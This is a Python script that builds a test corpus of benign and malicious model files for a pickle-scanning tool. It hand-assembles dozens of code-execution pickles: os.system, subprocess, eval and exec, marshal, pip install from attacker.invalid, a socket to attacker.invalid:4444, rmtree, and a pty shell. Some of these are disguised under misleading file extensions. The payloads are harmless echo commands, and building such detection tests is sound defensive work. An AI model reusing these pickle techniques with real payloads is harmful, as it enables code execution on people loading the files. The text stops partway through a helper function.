#!/usr/bin/env python3
"""Generate warden's deterministic test corpus of benign and malicious model artifacts.

Usage: gen_corpus.py OUTDIR

Writes OUTDIR/benign/<format>/..., OUTDIR/malicious/<format>/..., OUTDIR/suspicious/<format>/...
(worth a review, not proof of an attack: at least a medium finding) and OUTDIR/manifest.json:
    {"samples": [{"path": "malicious/pickle/p0_os_system.pkl", "verdict": "malicious",
                  "technique": "...", "format": "pickle"}, ...]}
A sample's path is a file, or a directory when the artifact is one (a SavedModel, an ONNX model
with external data); every file under benign/ and malicious/ belongs to exactly one sample.

Safety: nothing here ever runs a payload. Malicious pickles are assembled opcode by opcode, or
pickled from objects whose `__reduce__` merely *names* a dangerous callable; nothing is ever
unpickled, and code objects are only compiled and marshalled. Payload commands are harmless
(`echo WARDEN_CORPUS_PAYLOAD`) and hosts are under `.invalid`, so even an accidental load does
no damage.

Determinism: the same bytes on every run (on the same pinned environment, see
scripts/corpus-requirements.txt): fixed seeds, zip/tar/gzip/7z timestamps fixed, PYTHONHASHSEED
and BLAS threads pinned by re-executing ourselves. torch and tensorflow are not installed: their
formats are emulated (fake `torch` modules in sys.modules, a hand-written protobuf encoder).
"""

import os
import sys

_DETERMINISTIC_ENV = {
    "PYTHONHASHSEED": "0",
    "OMP_NUM_THREADS": "1",
    "OPENBLAS_NUM_THREADS": "1",
    "MKL_NUM_THREADS": "1",
    "TZ": "UTC",
    "PYTHONDONTWRITEBYTECODE": "1",
}
if any(os.environ.get(k) != v for k, v in _DETERMINISTIC_ENV.items()):
    # Hash seeds and thread counts must be fixed before the interpreter and numpy start.
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), *sys.argv[1:]],
              {**os.environ, **_DETERMINISTIC_ENV})

import bz2  # noqa: E402
import codecs  # noqa: E402
import collections  # noqa: E402
import gzip  # noqa: E402
import hashlib  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import lzma  # noqa: E402
import marshal  # noqa: E402
import pickle  # noqa: E402
import pickletools  # noqa: E402
import shutil  # noqa: E402
import struct  # noqa: E402
import tarfile  # noqa: E402
import tempfile  # noqa: E402
import time  # noqa: E402
import types  # noqa: E402
import warnings  # noqa: E402
import zipfile  # noqa: E402
import zlib  # noqa: E402

import numpy as np  # noqa: E402

warnings.filterwarnings("ignore")

CMD = "echo WARDEN_CORPUS_PAYLOAD"
SRC = "import os; os.system('echo WARDEN_CORPUS_PAYLOAD')"
EXPR = "__import__('os').system('echo WARDEN_CORPUS_PAYLOAD')"
EPOCH = (1980, 1, 1, 0, 0, 0)
SEED = 20240601


# --------------------------------------------------------------------------------------------
# The corpus and its manifest


class Corpus:
    """Writes samples under a root and remembers them for the manifest."""

    def __init__(self, root):
        self.root = root
        self.samples = []
        self._paths = set()

    def _claim(self, rel):
        if rel in self._paths:
            raise SystemExit(f"duplicate sample path {rel}")
        self._paths.add(rel)

    def add(self, verdict, fmt, name, data, technique):
        """One file sample at <verdict>/<fmt>/<name>."""
        rel = f"{verdict}/{fmt}/{name}"
        self._claim(rel)
        self._write(rel, data)
        self.samples.append({"path": rel, "verdict": verdict, "technique": technique, "format": fmt})

    def add_dir(self, verdict, fmt, name, files, technique):
        """One directory sample (a SavedModel, a model with external data)."""
        rel = f"{verdict}/{fmt}/{name}"
        self._claim(rel)
        for sub, data in sorted(files.items()):
            self._write(f"{rel}/{sub}", data)
        self.samples.append({"path": rel, "verdict": verdict, "technique": technique, "format": fmt})

    def _write(self, rel, data):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)

    def write_manifest(self):
        samples = sorted(self.samples, key=lambda s: s["path"])
        with open(os.path.join(self.root, "manifest.json"), "w", encoding="utf-8") as f:
            json.dump({"samples": samples}, f, indent=1, sort_keys=True)
            f.write("\n")


def rng(tag):
    """A generator seeded from SEED and a tag, so adding a sample never shifts another's bytes."""
    return np.random.default_rng([SEED, int.from_bytes(hashlib.sha256(tag.encode()).digest()[:4], "little")])


# --------------------------------------------------------------------------------------------
# Pickle assembly by hand


class Asm:
    """Encodes pickle opcodes for one protocol. Methods return bytes to concatenate."""

    def __init__(self, proto):
        self.proto = proto
        self.builtins = "builtins" if proto >= 3 else "__builtin__"

    def glob(self, module, name, stack=None):
        """Push module.name: GLOBAL before protocol 4, STACK_GLOBAL from 4 on (or as asked)."""
        if stack is None:
            stack = self.proto >= 4
        if stack:
            return self.val(module) + self.val(name) + b"\x93"
        return b"c" + f"{module}\n{name}\n".encode()

    def builtin(self, name):
        return self.glob(self.builtins, name)

    def val(self, v):
        p = self.proto
        if v is None:
            return b"N"
        if v is True or v is False:
            if p >= 2:
                return b"\x88" if v else b"\x89"
            return b"I01\n" if v else b"I00\n"
        if isinstance(v, int):
            if p == 0:
                return b"I%d\n" % v
            if 0 <= v < 256:
                return b"K" + bytes([v])
            if 0 <= v < 65536:
                return b"M" + struct.pack("<H", v)
            if -(2**31) <= v < 2**31:
                return b"J" + struct.pack("<i", v)
            if p >= 2:
                enc = pickle.encode_long(v)
                return b"\x8a" + bytes([len(enc)]) + enc
            return b"L%dL\n" % v
        if isinstance(v, float):
            if p == 0:
                return b"F" + repr(v).encode() + b"\n"
            return b"G" + struct.pack(">d", v)
        if isinstance(v, str):
            if p == 0:
                esc = (v.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
                       .replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
                return b"V" + esc.encode("raw-unicode-escape") + b"\n"
            raw = v.encode("utf-8")
            if p >= 4 and len(raw) < 256:
                return b"\x8c" + bytes([len(raw)]) + raw
            return b"X" + struct.pack("<I", len(raw)) + raw
        if isinstance(v, (bytes, bytearray)):
            v = bytes(v)
            if p >= 3:
                if len(v) < 256:
                    return b"C" + bytes([len(v)]) + v
                return b"B" + struct.pack("<I", len(v)) + v
            # What CPython itself emits for bytes before protocol 3.
            return self.call(self.glob("_codecs", "encode"), self.val(v.decode("latin1")), self.val("latin1"))
        if isinstance(v, tuple):
            return self.tup(*(self.val(x) for x in v))
        if isinstance(v, list):
            return b"(" + b"".join(self.val(x) for x in v) + b"l"
        if isinstance(v, dict):
            return b"(" + b"".join(self.val(k) + self.val(x) for k, x in v.items()) + b"d"
        raise TypeError(f"cannot encode {type(v)}")

    def tup(self, *items):
        n = len(items)
        if n == 0:
            return b")" if self.proto >= 1 else b"(t"
        if self.proto >= 2 and n <= 3:
            return b"".join(items) + (b"\x85", b"\x86", b"\x87")[n - 1]
        return b"(" + b"".join(items) + b"t"

    def call(self, fn, *args):
        """fn(*args) with REDUCE; fn and args are already-encoded bytes."""
        return fn + self.tup(*args) + b"R"

    def getattr(self, obj, name):
        return self.call(self.builtin("getattr"), obj, self.val(name))

    def header(self):
        return b"\x80" + bytes([self.proto]) if self.proto >= 2 else b""

    def finish(self, body, stop=True):
        data = body + (b"." if stop else b"")
        if self.proto >= 4:
            # One FRAME around everything, as pickle.dumps does for small pickles.
            return self.header() + b"\x95" + struct.pack("<Q", len(data)) + data
        return self.header() + data


def system_call(a, module="os", name="system", cmd=CMD):
    return a.call(a.glob(module, name), a.val(cmd))


def hand(proto, body_fn):
    a = Asm(proto)
    return a.finish(body_fn(a))


def os_system_pickle(proto, module="os"):
    return hand(proto, lambda a: system_call(a, module))


class Reduce:
    """An object whose pickle is a call of `fn(*args)`; pickling only names `fn`."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def checked(data):
    """Refuse to write a hand-made pickle that is not well-formed (pickletools never executes)."""
    pickletools.dis(data, out=io.StringIO())
    return data


def code_fields(code):
    """The positional arguments of types.CodeType(...) on CPython 3.11."""
    return (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
            code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
            code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
            code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars)


def payload_code():
    return compile(SRC, "<payload>", "exec")


def gen_pickles(c):
    import os as os_mod
    import shutil as shutil_mod
    import socket
    import subprocess
    import webbrowser

    mal = lambda name, data, technique: c.add("malicious", "pickle", name, data, technique)  # noqa: E731
    ben = lambda name, data, technique: c.add("benign", "pickle", name, data, technique)  # noqa: E731

    # os.system by hand in every protocol; posix.system (what pickle itself writes) in every protocol.
    for p in range(6):
        op = "STACK_GLOBAL" if p >= 4 else "GLOBAL"
        mal(f"p{p}_os_system.pkl", checked(os_system_pickle(p)), f"protocol {p} {op} os.system + REDUCE")
        mal(f"p{p}_posix_system.pkl", pickle.dumps(Reduce(os_mod.system, (CMD,)), protocol=p),
            f"protocol {p} pickle.dumps of __reduce__ -> posix.system")
    mal("p2_nt_system.pkl", checked(os_system_pickle(2, "nt")), "protocol 2 GLOBAL nt.system (Windows os)")

    mal("p2_subprocess_popen.pkl",
        pickle.dumps(Reduce(subprocess.Popen, (["sh", "-c", CMD],)), protocol=2),
        "protocol 2 pickle.dumps of subprocess.Popen, written as commands.Popen by fix_imports")
    mal("p1_subprocess_popen.pkl",
        checked(hand(1, lambda a: a.call(a.glob("subprocess", "Popen"), a.val(["sh", "-c", CMD])))),
        "protocol 1 GLOBAL subprocess.Popen(['sh','-c',...]) + REDUCE")
    mal("p4_subprocess_check_output.pkl",
        pickle.dumps(Reduce(subprocess.check_output, (["sh", "-c", CMD],)), protocol=4),
        "protocol 4 STACK_GLOBAL subprocess.check_output")
    mal("p3_builtins_eval.pkl", pickle.dumps(Reduce(eval, (EXPR,)), protocol=3), "protocol 3 builtins.eval(expr)")
    mal("p2_builtin_eval.pkl", pickle.dumps(Reduce(eval, (EXPR,)), protocol=2),
        "protocol 2 __builtin__.eval (Python 2 module name via fix_imports)")
    mal("p4_builtins_exec.pkl", pickle.dumps(Reduce(exec, (SRC,)), protocol=4), "protocol 4 builtins.exec(source)")

    def import_getattr(a):
        os_module = a.call(a.builtin("__import__"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p2_import_getattr_chain.pkl", checked(hand(2, import_getattr)),
        "protocol 2 getattr(__import__('os'),'system')(cmd) with nested REDUCEs")
    mal("p0_import_getattr_chain.pkl", checked(hand(0, import_getattr)),
        "protocol 0 getattr(__import__('os'),'system')(cmd) with nested REDUCEs")

    def importlib_chain(a):
        os_module = a.call(a.glob("importlib", "import_module"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p3_importlib_import_module.pkl", checked(hand(3, importlib_chain)),
        "protocol 3 importlib.import_module('os') + getattr system")
    mal("p2_runpy_run_code.pkl",
        checked(hand(2, lambda a: a.call(a.glob("runpy", "_run_code"), a.val(SRC), a.val({})))),
        "protocol 2 runpy._run_code(source, {})")
    mal("p3_pip_main.pkl",
        checked(hand(3, lambda a: a.call(a.glob("pip", "main"), a.val(
            ["install", "--index-url", "http://attacker.invalid/simple", "evil"])))),
        "protocol 3 pip.main(['install', ...]) installs attacker code")
    mal("p2_webbrowser_open.pkl", pickle.dumps(Reduce(webbrowser.open, ("http://attacker.invalid/",)), protocol=2),
        "protocol 2 webbrowser.open(url)")
    mal("p4_socket_create_connection.pkl",
        pickle.dumps(Reduce(socket.create_connection, (("attacker.invalid", 4444),)), protocol=4),
        "protocol 4 socket.create_connection((host, port))")
    mal("p3_shutil_rmtree.pkl",
        pickle.dumps(Reduce(shutil_mod.rmtree, ("/tmp/warden-corpus-victim",)), protocol=3),
        "protocol 3 shutil.rmtree(path)")

    def methodcaller(a):
        caller = a.call(a.glob("operator", "methodcaller"), a.val("system"), a.val(CMD))
        return a.call(caller, a.call(a.builtin("__import__"), a.val("os")))

    mal("p2_operator_methodcaller.pkl", checked(hand(2, methodcaller)),
        "protocol 2 operator.methodcaller('system', cmd)(__import__('os'))")

    def partial(a):
        bound = a.call(a.glob("functools", "partial"), a.glob("os", "system"), a.val(CMD))
        return bound + a.tup() + b"R"

    mal("p4_functools_partial.pkl", checked(hand(4, partial)), "protocol 4 functools.partial(os.system, cmd)()")

    def function_type(a):
        code = a.call(a.glob("types", "CodeType"), *(a.val(f) for f in code_fields(payload_code())))
        fn = a.call(a.glob("types", "FunctionType"), code, a.val({}))
        return fn + a.tup() + b"R"

    mal("p4_types_functiontype_codetype.pkl", checked(hand(4, function_type)),
        "protocol 4 types.FunctionType(types.CodeType(...), {})()")

    def marshal_loads(a):
        code = a.call(a.glob("marshal", "loads"), a.val(marshal.dumps(payload_code())))
        fn = a.call(a.glob("types", "FunctionType"), code, a.val({}))
        return fn + a.tup() + b"R"

    mal("p3_marshal_loads.pkl", checked(hand(3, marshal_loads)),
        "protocol 3 types.FunctionType(marshal.loads(bytes), {})()")

    inner = os_system_pickle(2)
    mal("p3_nested_pickle_loads.pkl",
        checked(hand(3, lambda a: a.call(a.glob("pickle", "loads"), a.val(inner)))),
        "protocol 3 pickle.loads(b'<malicious pickle>')")
    mal("p5_nested_cpickle_loads.pkl",
        checked(hand(5, lambda a: a.call(a.glob("_pickle", "loads"), a.val(os_system_pickle(4))))),
        "protocol 5 _pickle.loads(b'<malicious protocol 4 pickle>')")

    # STACK_GLOBAL whose module and name come from the memo, stored earlier inside harmless data.
    a = Asm(4)
    body = (b"}" + b"(" + a.val("format") + a.val("os") + b"q\x00" + a.val("entry") + a.val("system") + b"q\x01"
            + b"u" + b"0"  # dict built, then dropped
            + b"h\x00" + b"h\x01" + b"\x93" + a.val(CMD) + b"\x85R")
    mal("p4_stack_global_from_memo.pkl", checked(a.finish(body)),
        "protocol 4 STACK_GLOBAL with module/name fetched from the memo (BINPUT/BINGET)")
    a = Asm(5)
    body = (a.val("os") + b"\x94" + a.val("system") + b"\x94" + b"0" + b"0"
            + b"j\x00\x00\x00\x00" + b"j\x01\x00\x00\x00" + b"\x93" + a.val(CMD) + b"\x85R")
    mal("p5_stack_global_memoize_long_binget.pkl", checked(a.finish(body)),
        "protocol 5 STACK_GLOBAL with module/name from MEMOIZE/LONG_BINGET")

    a = Asm(4)
    mal("p4_stack_global_dotted_name.pkl",
        checked(a.finish(a.call(a.glob("code", "InteractiveInterpreter.runsource"),
                                a.call(a.glob("code", "InteractiveInterpreter")), a.val(SRC)))),
        "protocol 4 STACK_GLOBAL dotted name code.InteractiveInterpreter.runsource")

    a = Asm(0)
    mal("p0_inst_opcode.pkl", checked(b"(" + a.val(CMD) + b"ios\nsystem\n."), "protocol 0 INST os system")
    a = Asm(1)
    mal("p1_obj_opcode.pkl", checked(b"(" + a.glob("os", "system") + a.val(CMD) + b"o."),
        "protocol 1 OBJ opcode on os.system")
    a = Asm(2)
    mal("p2_newobj_popen.pkl",
        checked(a.finish(a.glob("subprocess", "Popen") + a.tup(a.val(["sh", "-c", CMD])) + b"\x81")),
        "protocol 2 NEWOBJ on subprocess.Popen")
    a = Asm(4)
    mal("p4_newobj_ex_popen.pkl",
        checked(a.finish(a.glob("subprocess", "Popen") + a.tup(a.val(["sh", "-c", CMD])) + a.val({"shell": False})
                         + b"\x92")),
        "protocol 4 NEWOBJ_EX on subprocess.Popen")

    # copyreg.add_extension registers os.system under code 240, then EXT1 240 fetches it.
    a = Asm(2)
    body = (a.call(a.glob("copyreg", "add_extension"), a.val("os"), a.val("system"), a.val(240)) + b"0"
            + b"\x82\xf0" + a.tup(a.val(CMD)) + b"R")
    mal("p2_ext1_copyreg.pkl", checked(a.finish(body)), "protocol 2 copyreg.add_extension + EXT1 code 240 -> os.system")

    garbage = bytes(rng("garbage").integers(0, 256, 96, dtype=np.uint8))
    a = Asm(2)
    mal("p2_payload_then_garbage.pkl", a.header() + system_call(a) + b"\xff" + garbage,
        "protocol 2 os.system REDUCE then garbage bytes instead of STOP (broken on purpose)")
    a = Asm(3)
    mal("p3_payload_then_truncated.pkl",
        a.header() + system_call(a) + b"0" + b"X" + struct.pack("<I", 4096) + b"truncated",
        "protocol 3 os.system REDUCE then a BINUNICODE cut short, no STOP (truncated)")
    mal("p2_two_pickles_second_malicious.pkl",
        pickle.dumps({"epoch": 3, "loss": 0.125}, protocol=2) + os_system_pickle(2),
        "two pickles back to back, the first benign, the second os.system")

    text = ("c__builtin__\nexec\np0\n(V" + "import os\\u000aos.system('" + CMD + "')\np1\ntp2\nRp3\n.")
    mal("p0_multiline_disguised.txt", checked(text.encode()),
        "multi-line protocol 0 __builtin__.exec payload with PUT memo, named .txt")
    a = Asm(0)
    mal("notes_p0_string_opcode.txt",
        checked(b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR."),
        "protocol 0 posix.system with STRING opcode, named .txt")

    mal("p2_numpy_load_nested.pkl",
        checked(hand(2, lambda a: a.call(a.glob("numpy", "load"), a.val("/tmp/evil.npy"), a.val(None), a.val(True)))),
        "protocol 2 numpy.load(path, None, allow_pickle=True) nested loader")
    mal("p2_torch_load_nested.pkl",
        checked(hand(2, lambda a: a.call(a.glob("torch", "load"), a.val("/tmp/evil.pt")))),
        "protocol 2 torch.load(path) nested loader")
    mal("p2_torch_serialization_load.pkl",
        checked(hand(2, lambda a: a.call(a.glob("torch.serialization", "load"), a.val("/tmp/evil.pt")))),
        "protocol 2 torch.serialization.load(path) nested loader")

    def ctypes_cdll(a):
        libc = a.call(a.glob("ctypes", "CDLL"), a.val("libc.so.6"))
        return a.call(a.getattr(libc, "system"), a.val(CMD.encode()))

    mal("p3_ctypes_cdll.pkl", checked(hand(3, ctypes_cdll)), "protocol 3 getattr(ctypes.CDLL('libc.so.6'),'system')(cmd)")

    def interpreter(a):
        interp = a.call(a.glob("code", "InteractiveInterpreter"))
        return a.call(a.getattr(interp, "runsource"), a.val(SRC))

    mal("p3_code_interactive_interpreter.pkl", checked(hand(3, interpreter)),
        "protocol 3 code.InteractiveInterpreter().runsource(source)")
    mal("p2_timeit.pkl",
        checked(hand(2, lambda a: a.call(a.glob("timeit", "timeit"), a.val(SRC), a.val("pass"),
                                         a.glob("time", "perf_counter"), a.val(1)))),
        "protocol 2 timeit.timeit(source, 'pass', time.perf_counter, 1)")

    def compile_exec(a):
        code = a.call(a.builtin("compile"), a.val(SRC), a.val("<string>"), a.val("exec"))
        return a.call(a.builtin("exec"), code)

    mal("p1_builtin_compile.pkl", checked(hand(1, compile_exec)), "protocol 1 exec(compile(source,...))")

    def sys_modules(a):
        os_module = a.call(a.glob("operator", "getitem"), a.glob("sys", "modules"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p3_sys_modules_getitem.pkl", checked(hand(3, sys_modules)),
        "protocol 3 getattr(operator.getitem(sys.modules,'os'),'system')(cmd)")
    mal("p2_cprofile_run.pkl", checked(hand(2, lambda a: a.call(a.glob("cProfile", "run"), a.val(SRC)))),
        "protocol 2 cProfile.run(source)")
    mal("p4_pdb_run.pkl", checked(hand(4, lambda a: a.call(a.glob("pdb", "run"), a.val(SRC)))),
        "protocol 4 pdb.run(source)")
    mal("p4_asyncio_subprocess_shell.pkl",
        checked(hand(4, lambda a: a.call(a.glob("asyncio", "run"),
                                         a.call(a.glob("asyncio", "create_subprocess_shell"), a.val(CMD))))),
        "protocol 4 asyncio.run(asyncio.create_subprocess_shell(cmd))")
    fork_args = ([b"/bin/sh", b"-c", CMD.encode()], [b"/bin/sh"], True, (), None, None,
                 -1, -1, -1, -1, -1, -1, 3, 4, True, False, 0, None, None, None, None)
    mal("p5_posixsubprocess_fork_exec.pkl",
        checked(hand(5, lambda a: a.call(a.glob("_posixsubprocess", "fork_exec"), *(a.val(x) for x in fork_args)))),
        "protocol 5 _posixsubprocess.fork_exec(...)")
    mal("p1_pty_spawn.pkl", checked(hand(1, lambda a: a.call(a.glob("pty", "spawn"), a.val("/bin/sh")))),
        "protocol 1 pty.spawn('/bin/sh')")

    # Misleading names: the content decides, not the extension.
    mal("p4_os_system_named.safetensors", os_system_pickle(4), "protocol 4 os.system pickle named .safetensors")
    mal("p2_os_system_named.json", os_system_pickle(2), "protocol 2 os.system pickle named .json")

    gen_dill_cloudpickle(c)

    # Benign pickles: plain data in every protocol, and the objects real checkpoints carry.
    data = {"name": "tiny-mlp", "epoch": 12, "lr": 0.001, "layers": [8, 16, 2], "shape": (2, 3),
            "tags": ["demo", "cpu"], "finished": True, "note": None, "blob": b"\x00\x01\x02", "big": 2**70}
    for p in range(6):
        ben(f"p{p}_plain_data.pkl", pickle.dumps(data, protocol=p), f"protocol {p} plain dict/list/str/bytes/int")
    ben("p2_ordered_dict.pkl",
        pickle.dumps(collections.OrderedDict([("fc.weight", [0.1, 0.2]), ("fc.bias", [0.0])]), protocol=2),
        "collections.OrderedDict state")
    arrays = {"w": rng("benign-arrays").standard_normal((4, 3)).astype(np.float32), "ids": np.arange(6, dtype=np.int64)}
    ben("p2_numpy_arrays.pkl", pickle.dumps(arrays, protocol=2), "numpy arrays pickled (numpy _reconstruct, dtype)")
    ben("p5_numpy_arrays.pkl", pickle.dumps(arrays, protocol=5), "numpy arrays pickled with protocol 5")
    ben("p5_bytearray.pkl", pickle.dumps({"buf": bytearray(b"abcdef" * 4)}, protocol=5),
        "protocol 5 BYTEARRAY8 buffer")
    import datetime
    ben("p4_training_metadata.pkl",
        pickle.dumps({"started": datetime.datetime(2024, 5, 1, 12, 30), "date": datetime.date(2024, 5, 1),
                      "elapsed": datetime.timedelta(minutes=42), "metrics": collections.OrderedDict(acc=0.91)},
                     protocol=4),
        "datetime/date/timedelta and OrderedDict metadata")
    ben("p3_complex_and_sets.pkl", pickle.dumps({"ids": frozenset({1, 2, 3}), "z": complex(1, 2)}, protocol=3),
        "frozenset and complex (builtins.frozenset/complex globals)")
    ben("p2_plain_named.txt", pickle.dumps(["just", "a", "list"], protocol=2), "plain list pickle named .txt")


def gen_dill_cloudpickle(c):
    import cloudpickle
    import dill

    namespace = {"__name__": "__main__", "__builtins__": __builtins__}
    fn = eval(compile("lambda x: __import__('os').system('echo WARDEN_CORPUS_PAYLOAD') or x", "<corpus>", "eval"),
              namespace)
    exec(compile("def preprocess(batch):\n    return [v * 2 for v in batch]\n", "<corpus>", "exec"), namespace)
    c.add("malicious", "pickle", "dill_lambda.pkl", dill.dumps(fn, protocol=4, recurse=True),
          "dill output of a lambda (carries a code object)")
    c.add("malicious", "pickle", "dill_function.pkl", dill.dumps(namespace["preprocess"], protocol=3),
          "dill output of a plain function (carries a code object)")
    c.add("malicious", "pickle", "cloudpickle_lambda.pkl", cloudpickle.dumps(fn, protocol=5),
          "cloudpickle output of a lambda (code object rebuilt from bytes)")
    c.add("malicious", "pickle", "cloudpickle_function.pkl", cloudpickle.dumps(namespace["preprocess"], protocol=4),
          "cloudpickle output of a plain function (code object rebuilt from bytes)")
    plain = {"vocab": ["<pad>", "<unk>", "hello"], "max_len": 128, "lower": True}
    c.add("benign", "pickle", "dill_plain_data.pkl", dill.dumps(plain, protocol=4), "dill output of plain data")
    c.add("benign", "pickle", "cloudpickle_plain_data.pkl", cloudpickle.dumps(plain, protocol=5),
          "cloudpickle output of plain data")


# --------------------------------------------------------------------------------------------
# Containers: zip, tar, compression


def zip_info(name, method):
    zi = zipfile.ZipInfo(name, date_time=EPOCH)
    zi.compress_type = method
    zi.create_system = 3
    zi.external_attr = 0o644 << 16
    return zi


def zip_bytes(entries, method=zipfile.ZIP_DEFLATED):
    """A zip of (name, data) or (name, data, method) entries with fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for entry in entries:
            name, data = entry[0], entry[1]
            zf.writestr(zip_info(name, entry[2] if len(entry) > 2 else method), data)
    return buf.getvalue()


def aligned_zip(entries, align=64):
    """A stored zip whose member data start on `align`-byte boundaries, padded like torch.save
    does with an 'FB' extra field filled with 'Z'."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            zi = zip_info(name, zipfile.ZIP_STORED)
            data_start = buf.tell() + 30 + len(name.encode()) + 4
            pad = -data_start % align
            zi.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            zf.writestr(zi, data)
    return buf.getvalue()


DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00:00


def raw_zip(entries):
    """A zip written byte by byte, for what zipfile refuses to write. Each entry is a dict with
    `name` (or `local_name` and `central_name`), `data`, optional `flags`, `method` and
    `compressed` (data already compressed with `method`; then `size` and `crc` may stand in
    for `data`)."""
    out, central = bytearray(), bytearray()
    for e in entries:
        local_name = e.get("local_name", e.get("name")).encode()
        central_name = e.get("central_name", e.get("name")).encode()
        data, method, flags = e.get("data"), e.get("method", 0), e.get("flags", 0)
        stored = e.get("compressed", data)
        crc = e["crc"] if "crc" in e else zlib.crc32(data)
        size = e["size"] if "size" in e else len(data)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, DOS_TIME, DOS_DATE, crc, len(stored), size,
                           len(local_name), 0) + local_name + stored
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, method, DOS_TIME, DOS_DATE, crc,
                               len(stored), size, len(central_name), 0, 0, 0, 0, 0o644 << 16, offset) + central_name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def tar_bytes(members, fmt=tarfile.PAX_FORMAT):
    """An uncompressed tar of (name, data) members with fixed owners and times."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def xz(data):
    return lzma.compress(data, format=lzma.FORMAT_XZ)


def zst(data):
    import zstandard

    return zstandard.ZstdCompressor(level=3).compress(data)


def sevenz(members):
    """A 7z archive; py7zr stamps members with their file mtime, so files get a fixed one."""
    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as archive:
            for name, data in members:
                path = os.path.join(tmp, name.replace("/", "_"))
                with open(path, "wb") as f:
                    f.write(data)
                os.utime(path, (315532800, 315532800))
                os.chmod(path, 0o644)
                archive.write(path, name)
        return buf.getvalue()


# --------------------------------------------------------------------------------------------
# PyTorch, emulated: the same GLOBALs and persistent ids torch.save writes


class FakeStorage:
    def __init__(self, key, storage_type, data, numel):
        self.key, self.storage_type, self.data, self.numel = key, storage_type, data, numel


class FakeTensor:
    def __init__(self, storage, size, stride=None, offset=0, requires_grad=False):
        if stride is None:
            stride = tuple(int(np.prod(size[i + 1:])) for i in range(len(size)))
        self.storage, self.size, self.stride = storage, size, stride
        self.offset, self.requires_grad = offset, requires_grad

    def __reduce_ex__(self, proto):
        torch_utils = FAKE_TORCH["torch._utils"]
        return (torch_utils._rebuild_tensor_v2,
                (self.storage, self.offset, tuple(self.size), tuple(self.stride), self.requires_grad,
                 collections.OrderedDict()))


class FakeParameter:
    def __init__(self, tensor, requires_grad=True):
        self.tensor, self.requires_grad = tensor, requires_grad

    def __reduce_ex__(self, proto):
        rebuild = FAKE_TORCH["torch._utils"]._rebuild_parameter
        return (rebuild, (self.tensor, self.requires_grad, collections.OrderedDict()))


def _make_fake_torch():
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def stub(module, name):
        def fn(*args, **kwargs):
            raise RuntimeError("corpus stand-in for " + name)
        fn.__module__, fn.__name__, fn.__qualname__ = module, name, name
        return fn

    for name in ("_rebuild_tensor_v2", "_rebuild_parameter", "_rebuild_parameter_with_state"):
        setattr(utils, name, stub("torch._utils", name))
    for name in ("FloatStorage", "HalfStorage", "BFloat16Storage", "LongStorage", "IntStorage", "ByteStorage",
                 "FloatTensor"):
        setattr(torch, name, type(name, (), {"__module__": "torch"}))
    torch._utils = utils
    return {"torch": torch, "torch._utils": utils}


FAKE_TORCH = _make_fake_torch()


class fake_torch:
    """Puts stand-ins for `torch` and `torch._utils` in sys.modules, so pickle names them exactly
    as torch.save would; only for the duration of a block, since other libraries (scipy) probe
    sys.modules for a real torch."""

    depth = 0

    def __enter__(self):
        fake_torch.depth += 1
        sys.modules.update(FAKE_TORCH)

    def __exit__(self, *exc):
        fake_torch.depth -= 1
        if fake_torch.depth == 0:
            for name in FAKE_TORCH:
                sys.modules.pop(name, None)


class TorchPickler(pickle.Pickler):
    """torch.save's pickler: storages (tensors, in the tar format) leave the pickle as persistent ids."""

    legacy = False
    tensor_ids = None  # the legacy tar format: id(FakeTensor) -> key

    def persistent_id(self, obj):
        if self.tensor_ids is not None and isinstance(obj, FakeTensor):
            return str(self.tensor_ids[id(obj)])
        if isinstance(obj, FakeStorage):
            pid = ("storage", obj.storage_type, obj.key, "cpu", obj.numel)
            return pid + (None,) if self.legacy else pid
        return None


def torch_pickle(obj, legacy=False, tensor_ids=None):
    buf = io.BytesIO()
    pickler = TorchPickler(buf, protocol=2)
    pickler.legacy, pickler.tensor_ids = legacy, tensor_ids
    with fake_torch():
        pickler.dump(obj)
    return buf.getvalue()


def float_tensor(key, shape, tag, requires_grad=False):
    values = rng(tag).standard_normal(shape).astype("<f4")
    storage = FakeStorage(key, FAKE_TORCH["torch"].FloatStorage, values.tobytes(), values.size)
    return FakeTensor(storage, shape, requires_grad=requires_grad)


def mlp_state_dict(tag, key_base=0, keys=None):
    """A two-layer MLP state_dict, with torch's `_metadata` attribute."""
    shapes = [("fc1.weight", (16, 8)), ("fc1.bias", (16,)), ("fc2.weight", (4, 16)), ("fc2.bias", (4,))]
